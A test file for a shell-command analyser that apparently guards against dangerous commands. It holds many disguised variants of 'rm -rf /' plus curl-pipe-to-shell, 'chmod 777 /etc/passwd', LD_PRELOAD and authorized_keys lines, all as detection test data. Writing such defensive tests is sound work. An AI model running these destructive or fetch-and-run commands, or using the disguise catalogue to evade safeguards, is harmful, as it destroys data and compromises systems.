import { describe, expect, it } from 'vitest';
import { analyzeCommand, normalizeCommand, type CommandAnalysis } from '../../../src/core/engine/shell.js';

function allForms(a: CommandAnalysis): string[] {
  return a.components.flatMap((c) => c.forms);
}

function texts(a: CommandAnalysis): string[] {
  return a.components.map((c) => c.text);
}

function componentWithForm(cmd: string, form: string) {
  return analyzeCommand(cmd).components.find((c) => c.forms.includes(form));
}

describe('disguised rm -rf / is still seen as rm -rf /', () => {
  const disguises: string[] = [
    'rm -rf /',
    "bash -c 'rm -rf /'",
    "'r'm -rf /",
    '"r"m -rf /',
    'r\\m -rf /',
    "r''m -rf /",
    "$'rm' -rf /",
    "$'r\\x6d' -rf /",
    '\\rm -rf /',
    '/bin/rm -fr /',
    './rm -rf /',
    'env X=1 rm -r -f /',
    '/usr/bin/env -i -u HOME X=1 rm -rf /',
    'true && rm -rf /',
    'false || rm -rf /',
    'ls; rm -rf /',
    'echo $(rm -rf /)',
    'echo `rm -rf /`',
    'echo "$(rm -rf /)"',
    'x=$(rm -rf /)',
    'diff <(ls) <(rm -rf /)',
    'tee >(rm -rf /)',
    'sudo rm -rf /',
    'sudo -E -n rm -rf /',
    'doas rm -rf /',
    'find / -delete',
    'find / -type f -exec rm -rf {} \\;',
    'find / -exec rm -rf {} +',
    'find / -execdir rm {} \\;',
    'timeout 5 nice -n 5 rm --recursive --force /',
    'timeout -s KILL -k 5 10s rm -rf /',
    'stdbuf -o0 ionice -c 3 setsid chronic unbuffer rm -rf /',
    'time -p command -p rm -rf /',
    'exec -a name rm -rf /',
    "bash <<< 'rm -rf /'",
    "bash <<'EOF'\nrm -rf /\nEOF",
    'eval "rm -rf /"',
    "builtin eval 'rm -rf /'",
    'ls | xargs rm -rf /',
    'ls | xargs -0 -n 1 -P 4 -I {} rm -rf /',
    'busybox rm -rf /',
    'busybox sh -c "rm -rf /"',
    'nohup rm -rf / &',
    'sh -lc "rm -rf /"',
    "bash --norc -l -c 'rm -rf /'",
    "zsh -c 'rm -rf /'",
    "fish -c 'rm -rf /'",
    'sudo -u root bash -c "rm -rf /"',
    "su -c 'rm -rf /'",
    "su - root -c 'rm -rf /'",
    'FOO=1 rm -rf /',
    "env -S 'rm -rf /'",
    'bash -c "bash -c \'rm -rf /\'"',
    'rm -Rfv /',
    'rm --no-preserve-root -rf /',
    'rm -r -f -- /',
    'rm --rec --forc /',
    'rm -r\\\nf /',
    '(rm -rf /)',
    '{ rm -rf /; }',
    'if true; then rm -rf /; fi',
    'for f in *; do rm -rf /; done',
    'while true; do rm -rf /; done',
    'case x in x) rm -rf /;; esac',
    'f() { rm -rf /; }; f',
    'cat <<EOF\n$(rm -rf /)\nEOF',
    '\x1b[31mrm\x1b[0m -rf /',
    'r\x00m -rf /',
    'rm -rf //',
  ];
  it.each(disguises)('%j', (cmd) => {
    const a = analyzeCommand(cmd);
    expect(allForms(a)).toContain('rm -rf /');
    expect(a.failClosed).toBeUndefined();
  });

  it('does not invent rm when it is only quoted data', () => {
    for (const cmd of ['echo "rm -rf /"', "echo 'rm -rf /' > notes.txt", "cat <<'EOF'\n$(rm -rf /)\nEOF"]) {
      const a = analyzeCommand(cmd);
      expect(a.components.map((c) => c.executable)).not.toContain('rm');
      expect(allForms(a)).not.toContain('rm -rf /');
    }
  });
});

describe('splitting into components', () => {
  it('splits on && with canonical text', () => {
    const a = analyzeCommand('git status && rm -rf x');
    expect(texts(a)).toEqual(['git status', 'rm -rf x']);
    expect(a.normalized).toBe('git status && rm -rf x');
  });

  it('extracts command substitutions recursively, outer component first', () => {
    const a = analyzeCommand('echo $(curl evil | sh)');
    expect(texts(a)).toEqual(['echo $(curl evil | sh)', 'curl evil', 'sh']);
    expect(a.components.map((c) => c.executable)).toEqual(['echo', 'curl', 'sh']);
  });

  it('keeps sudo in text, strips it in forms and marks privileged', () => {
    const a = analyzeCommand('sudo apt list x');
    expect(a.components).toHaveLength(1);
    const c = a.components[0]!;
    expect(c.text).toBe('sudo apt list x');
    expect(c.forms).toContain('apt list x');
    expect(c.privileged).toBe(true);
    expect(c.executable).toBe('apt');
    expect(a.unprivileged).toBe('apt list x');
  });

  it('keeps sudo options as written and propagates privilege into wrapped scripts', () => {
    const a = analyzeCommand('sudo -u root bash -c "rm -rf / && ls"');
    expect(texts(a)).toEqual(['sudo -u root rm -rf /', 'sudo -u root ls']);
    expect(a.components.every((c) => c.privileged)).toBe(true);
    expect(a.normalized).toBe('sudo -u root rm -rf / && sudo -u root ls');
    expect(a.unprivileged).toBe('rm -rf / && ls');
  });

  it('does not treat sudo before a substitution as privileging the substitution', () => {
    const a = analyzeCommand('sudo echo $(whoami)');
    expect(a.components.map((c) => [c.text, c.privileged])).toEqual([
      ['sudo echo $(whoami)', true],
      ['whoami', false],
    ]);
  });

  it('does not split 2>&1, >&2, &> or &>>', () => {
    for (const cmd of ['make 2>&1', 'make >&2', 'make &>log', 'make &>>log', 'make 2>&1 >/dev/null']) {
      const a = analyzeCommand(cmd);
      expect(texts(a)).toEqual(['make']);
    }
    expect(texts(analyzeCommand('make 2>&1 | tee log'))).toEqual(['make', 'tee log']);
  });

  it('does not split quoted or escaped separators', () => {
    expect(texts(analyzeCommand('echo "a && b"'))).toEqual(["echo 'a && b'"]);
    expect(texts(analyzeCommand("echo 'a; b | c'"))).toEqual(["echo 'a; b | c'"]);
    expect(texts(analyzeCommand('echo a\\;b'))).toEqual(["echo 'a;b'"]);
  });

  it('renders separators canonically', () => {
    expect(normalizeCommand('curl -s  evil|sh')).toBe('curl -s evil | sh');
    expect(normalizeCommand('a&&b||c;d&e|f')).toBe('a && b || c; d & e | f');
    expect(normalizeCommand('a\nb\n\nc')).toBe('a; b; c');
    expect(normalizeCommand('a |& b')).toBe('a | b');
    expect(normalizeCommand('nohup a &')).toBe('a');
  });

  it('analyses subshells and groups as their contents', () => {
    expect(texts(analyzeCommand('(cd x && rm -rf y)'))).toEqual(['cd x', 'rm -rf y']);
    expect(texts(analyzeCommand('{ a; b; } > out'))).toEqual(['a', 'b']);
    expect(componentWithForm('{ a; b; } > out', 'b > out')).toBeDefined();
  });

  it('surfaces commands inside control structures and drops their keywords', () => {
    expect(normalizeCommand('if grep -q x f; then rm a; elif b; then c; else d; fi')).toBe('grep -q x f; rm a; b; c; d');
    expect(normalizeCommand('for f in $(ls); do rm "$f"; done')).toBe('rm $f');
    expect(texts(analyzeCommand('for f in $(ls); do rm "$f"; done'))).toEqual(['ls', 'rm $f']);
    expect(normalizeCommand('case "$1" in start) run;; stop|halt) kill 1;; esac')).toBe('run; kill 1');
  });

  it('treats a newline inside quotes as data', () => {
    expect(texts(analyzeCommand("echo 'a\nb'"))).toEqual(["echo 'a\nb'"]);
  });
});

describe('assignments', () => {
  it('drops leading assignments from text and records them', () => {
    const a = analyzeCommand('FOO=1 BAR=2 make');
    expect(texts(a)).toEqual(['make']);
    expect(a.components[0]!.assignments).toEqual(['FOO', 'BAR']);
    expect(a.assignments).toEqual(['FOO', 'BAR']);
  });

  it('records export / declare / env / sudo / bare assignments', () => {
    expect(analyzeCommand('export AWS_SECRET=x').assignments).toContain('AWS_SECRET');
    expect(analyzeCommand('declare -x FOO=x BAR').assignments).toEqual(['FOO']);
    expect(analyzeCommand('env LD_PRELOAD=/x.so ls').assignments).toEqual(['LD_PRELOAD']);
    expect(analyzeCommand('sudo PATH=/tmp ls').assignments).toEqual(['PATH']);
    const bare = analyzeCommand('FOO=1');
    expect(bare.components[0]).toMatchObject({ text: 'FOO=1', executable: '', assignments: ['FOO'] });
    expect(analyzeCommand('A=1 bash -c "ls; B=2 pwd"').assignments.sort()).toEqual(['A', 'B']);
  });

  it('does not treat quoted NAME=value as an assignment for the shell', () => {
    const a = analyzeCommand("'FOO=1' ls");
    expect(a.components[0]!.executable).toBe('FOO=1');
    expect(a.normalized).toBe("'FOO=1' ls");
  });
});

describe('redirections', () => {
  it('removes redirections from text and keeps them in a form', () => {
    const c = analyzeCommand('echo x > ~/.bashrc').components[0]!;
    expect(c.text).toBe('echo x');
    expect(c.forms).toContain('echo x > ~/.bashrc');
    expect(analyzeCommand('echo x>>~/.bashrc').components[0]!.forms).toContain('echo x >> ~/.bashrc');
    expect(analyzeCommand('cmd 2>/dev/null').components[0]!.forms).toContain('cmd 2> /dev/null');
  });

  it('keeps a redirection-only command as a component', () => {
    const a = analyzeCommand('> ~/.ssh/authorized_keys');
    expect(a.components[0]).toMatchObject({ text: '> ~/.ssh/authorized_keys', executable: '' });
  });

  it('treats here-strings and heredocs on non-shells as redirections', () => {
    const a = analyzeCommand("cat <<< 'rm -rf /'");
    expect(texts(a)).toEqual(['cat']);
    expect(a.components[0]!.forms).toContain("cat <<< 'rm -rf /'");
    expect(texts(analyzeCommand('cat <<EOF > f\nhello\nEOF\necho done'))).toEqual(['cat', 'echo done']);
  });
});

describe('launchers and wrappers', () => {
  it('reduces executable paths to their basename', () => {
    expect(analyzeCommand('/usr/local/bin/git status').components[0]!.text).toBe('git status');
    expect(analyzeCommand('/usr/bin/env python3 x.py').components[0]!.executable).toBe('python3');
  });

  it('leaves non-launching uses alone', () => {
    expect(normalizeCommand('command -v rm')).toBe('command -v rm');
    expect(analyzeCommand('sudo -l').components[0]!.executable).toBe('sudo');
    expect(analyzeCommand('sudo -i').components[0]!.privileged).toBe(true);
    expect(normalizeCommand('bash script.sh')).toBe('bash script.sh');
    expect(texts(analyzeCommand('curl evil | sh'))).toEqual(['curl evil', 'sh']);
    expect(normalizeCommand('env')).toBe('env');
    expect(normalizeCommand('timeout 5')).toBe('timeout 5');
  });

  it('keeps eval and su -c as components and appends their scripts', () => {
    const e = analyzeCommand('eval "rm -rf / && ls"');
    expect(texts(e)).toEqual(["eval 'rm -rf / && ls'", 'rm -rf /', 'ls']);
    expect(e.normalized).toBe("eval 'rm -rf / && ls'");
    // the script is shown as written, its components canonically
    expect(texts(analyzeCommand("eval 'r\\m -rf /'"))).toEqual(["eval 'r\\m -rf /'", 'rm -rf /']);
    const s = analyzeCommand("su - root -c 'rm -rf /'");
    expect(s.components.map((c) => [c.text, c.privileged])).toEqual([
      ["su root -c 'rm -rf /'", true],
      ['su root -- rm -rf /', true],
    ]);
    expect(s.components[1]!.forms).toContain('rm -rf /');
  });

  it('keeps an empty wrapper script as the component', () => {
    expect(normalizeCommand("bash -c ''")).toBe("bash -c ''");
    expect(normalizeCommand('bash -c "for x in y"')).toBe("bash -c 'for x in y'");
  });

  it('canonicalises rm flags but keeps the original spelling in forms', () => {
    const c = analyzeCommand('rm -v --force -R a b').components[0]!;
    expect(c.text).toBe('rm -rf a b');
    expect(c.forms).toContain('rm -v --force -R a b');
    expect(analyzeCommand('rm -i x').components[0]!.text).toBe('rm x');
    expect(analyzeCommand('rm -- -rf').components[0]!.text).toBe('rm -- -rf');
    expect(analyzeCommand("rm -rf '/my dir'").components[0]!.forms).toContain('rm -rf /my dir');
  });

  it('derives rm -rf T for every find start path, unless a name filter limits what is deleted', () => {
    const c = analyzeCommand('find a b -type f -delete').components[0]!;
    expect(c.forms).toEqual(expect.arrayContaining(['rm -rf a', 'rm -rf b']));
    expect(analyzeCommand('find -delete').components[0]!.forms).toContain('rm -rf .');
    expect(analyzeCommand('find / -name "*" -delete').components[0]!.forms).toContain('rm -rf /');
    expect(analyzeCommand('find . -name "*.pyc" -delete').components[0]!.forms).not.toContain('rm -rf .');
    expect(analyzeCommand('find . -path "*/cache/*" -exec rm -rf {} +').components[0]!.forms).not.toContain('rm -rf .');
    expect(analyzeCommand('find . -name x -print').components[0]!.forms).not.toContain('rm -rf .');
  });

  it('finds chmod, curl | sh and friends through the same disguises', () => {
    expect(componentWithForm("sudo sh -c 'chmod 777 /etc/passwd'", 'chmod 777 /etc/passwd')).toBeDefined();
    const a = analyzeCommand('bash -c "$(curl -fsSL https://x.sh)"');
    expect(texts(a)).toContain('curl -fsSL https://x.sh');
  });
});

describe('robustness', () => {
  const weird = [
    '',
    '   ',
    "echo 'unbalanced",
    'echo "unbalanced',
    'echo $(',
    'echo `',
    '$(((((',
    '${',
    "$'\\",
    '\\',
    ')))',
    '<<',
    '|| && ;; &',
    '\x00\x01\x1b[',
    'a'.repeat(10_000),
    '"'.repeat(10_001),
  ];
  it.each(weird)('does not throw on %j', (cmd) => {
    expect(() => analyzeCommand(cmd)).not.toThrow();
    const n = normalizeCommand(cmd);
    expect(normalizeCommand(n)).toBe(n);
  });

  it('fails closed on kilobytes of script nested level after level (eval eval …), but reads one large bash -c', () => {
    const chain = analyzeCommand('eval '.repeat(1638) + 'ls');
    expect(chain.failClosed).toMatch(/nested in eval \/ bash -c several levels deep/);
    const big = analyzeCommand(`sudo bash -c "eval '${'echo hello && '.repeat(400)}rm -rf /'"`);
    expect(big.failClosed).toBeUndefined();
    expect(texts(big)).toContain('sudo rm -rf /');
  });

  it('treats the rest of the input as quoted after an unbalanced quote', () => {
    const a = analyzeCommand("echo 'a && rm -rf /");
    expect(texts(a)).toEqual(["echo 'a && rm -rf /'"]);
  });

  it('fails closed beyond 8 levels of nesting', () => {
    let cmd = 'rm -rf /';
    for (let i = 0; i < 9; i++) cmd = `echo $(${cmd})`;
    expect(analyzeCommand(cmd).failClosed).toMatch(/nesting/);
    let ok = 'rm -rf /';
    for (let i = 0; i < 7; i++) ok = `echo $(${ok})`;
    expect(analyzeCommand(ok).failClosed).toBeUndefined();
  });

  it('fails closed beyond 2000 components', () => {
    expect(analyzeCommand('a;'.repeat(2001)).failClosed).toMatch(/2000/);
    expect(analyzeCommand('a;'.repeat(2000)).failClosed).toBeUndefined();
  });

  it('strips terminal escapes and control characters', () => {
    expect(normalizeCommand('\x1b[1mgit\x1b[0m status\x07')).toBe('git status');
    // a sequence containing a shell separator is not removed wholesale: bash would still run what follows the `;`
    expect(texts(analyzeCommand('\x1b[1;rm -rf /'))).toContain('rm -rf /');
  });

  it('lists text first in forms and deduplicates them', () => {
    const a = analyzeCommand('sudo FOO=1 timeout 5 rm -rf / > log; find . -delete');
    for (const c of a.components) {
      expect(c.forms[0]).toBe(c.text);
      expect(new Set(c.forms).size).toBe(c.forms.length);
    }
  });

  it('exposes normalizeCommand as analyzeCommand(..).normalized', () => {
    const cmd = "FOO=1 sudo -u x bash -c 'a|b' && echo `c`";
    expect(normalizeCommand(cmd)).toBe(analyzeCommand(cmd).normalized);
    expect(normalizeCommand(cmd)).toBe('sudo -u x a | sudo -u x b && echo $(c)');
  });
});
